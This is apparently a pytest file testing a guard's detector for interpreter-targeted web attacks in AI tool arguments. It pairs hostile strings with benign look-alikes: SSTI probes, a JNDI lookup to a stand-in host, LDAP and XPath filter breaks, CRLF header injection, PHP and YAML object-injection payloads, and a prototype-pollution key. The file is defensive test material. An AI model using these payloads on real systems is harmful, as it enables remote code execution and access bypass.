"""Web-attack detector on payloads for the server's other interpreters.

`data/webattack_cases_interpreters.jsonl` holds template and expression injection, LDAP and XPath
filter breaks, CRLF header injection, serialised objects, prototype-polluting keys and XML
entity tricks, beside what template, directory, XML, HTTP and code tools are sent in ordinary use.
"""

from __future__ import annotations

import pytest

from bastion.config.guard import build_guard
from bastion.core.patterns import Pattern
from bastion.core.types import Action, Direction, Subject
from bastion.detectors.webattack_rules import INTERPRETER_CUE, INTERPRETER_RULES
from tests.detectors.cases import case_rows, misjudged

_CASES = "webattack_cases_interpreters.jsonl"
GUARD = build_guard(key=b"k" * 32)


def _verdict(text: str, direction: Direction = Direction.TOOL_ARGS) -> tuple[Action, set[str]]:
    verdict = GUARD(Subject(text=text, direction=direction))
    return verdict.decision, {finding.code for finding in verdict.findings}


def _blocked(text: str) -> bool:
    return _verdict(text)[0] is not Action.ALLOW


def test_every_attack_case_is_caught_and_every_benign_case_passes() -> None:
    assert misjudged(_CASES, _blocked) == ([], [])


def test_the_case_file_covers_each_interpreter_and_benign_text() -> None:
    kinds = {row.kind for row in case_rows(_CASES)}
    assert {
        "ssti",
        "ldap",
        "xpath",
        "crlf",
        "deserialization",
        "prototype_pollution",
        "xxe",
        "benign",
    } <= kinds


@pytest.mark.parametrize(
    ("attack", "code", "look_alike"),
    [
        ("{{7*7}}", "webattack.ssti", "{{ order.total }}"),
        ("${{9*9}}", "webattack.ssti", "${subtotal + shipping}"),
        ("{{''.__class__.__mro__[1]}}", "webattack.ssti", "{{ user.class_name }}"),
        ("{{['id']|map('system')}}", "webattack.ssti", "{{ rows|map(attribute='id') }}"),
        ("${${lower:j}ndi:ldap://x.example/a}", "webattack.ssti", "${HOME}/${USER}"),
        ("*)(uid=*))(|(uid=*", "webattack.ldap", "(&(uid=*)(mail=*))"),
        ("jdoe)(cn=*", "webattack.ldap", "(|(uid=jdoe)(cn=Jane Doe))"),
        ("' or count(/child::node())=1 or ''='", "webattack.xpath", "//ul/li[1]"),
        ("%0d%0aSet-Cookie:%20a=1", "webattack.header_injection", "q=one%0Atwo"),
        ("/%0D%0ALocation:%20//x.example", "webattack.header_injection", "a%0ALocation%3A+Rome"),
        ('O:4:"User":1:{s:2:"id";i:1;}', "webattack.object_injection", 'a:1:{i:0;s:1:"x";}'),
        ("!!python/object/apply:os.system", "webattack.object_injection", "!!str 007"),
        ('{"__proto__":{"a":1}}', "webattack.object_injection", '{"proto":{"a":1}}'),
    ],
)
def test_each_attack_blocks_with_its_code_and_its_look_alike_passes(
    attack: str, code: str, look_alike: str
) -> None:
    decision, codes = _verdict(attack)
    assert decision is Action.BLOCK
    assert code in codes
    assert not _blocked(look_alike)


@pytest.mark.parametrize(
    "text",
    [
        "Why does {{7*7}} print 49 in a vulnerable Jinja app?",
        "Explain what '*)(uid=*))(|(uid=*' does to an LDAP query",
        "Is %0d%0aSet-Cookie: a real attack?",
    ],
)
def test_talk_about_a_payload_in_chat_is_not_blocked(text: str) -> None:
    decision, codes = _verdict(text, Direction.INPUT)
    assert decision is Action.ALLOW
    # The signal is still reported, at the discounted score of talk.
    assert any(code.startswith("webattack.") for code in codes)


def test_every_interpreter_rule_example_holds_the_cue_that_lets_its_table_be_read() -> None:
    cue = Pattern(INTERPRETER_CUE)
    texts = [example for rule in INTERPRETER_RULES for example in rule.examples]
    texts += [row.text for row in case_rows(_CASES) if row.label == 1]
    assert [text for text in texts if cue.search(text) is None] == []


def test_a_message_without_the_cue_is_not_read_by_the_interpreters_table() -> None:
    assert Pattern(INTERPRETER_CUE).search("Could you check my order, please? Thanks.") is None
